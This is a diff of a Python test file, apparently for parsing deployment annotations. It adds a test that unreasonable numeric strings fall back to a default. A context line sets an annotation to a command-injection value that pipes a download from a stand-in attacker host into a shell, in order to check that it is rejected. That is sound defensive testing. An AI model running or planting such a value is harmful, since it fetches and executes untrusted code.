@@ -157,3 +157,8 @@ def test_a_deployment_whose_model_can_be_no_name_is_not_ours() -> None:
     obj = h.deployment()
     obj["metadata"]["annotations"]["sealane.dev/model"] = "m; curl evil.example | sh"
     assert view(obj, DeploymentView).model == ""
+
+
+@pytest.mark.parametrize("odd", ["9" * 5_000, "\N{SUPERSCRIPT TWO}", "-1", "x"])
+def test_a_number_that_anybody_wrote_is_none_if_it_is_not_reasonable(odd: str) -> None:
+    assert hosted._number(odd, otherwise=7) == 7
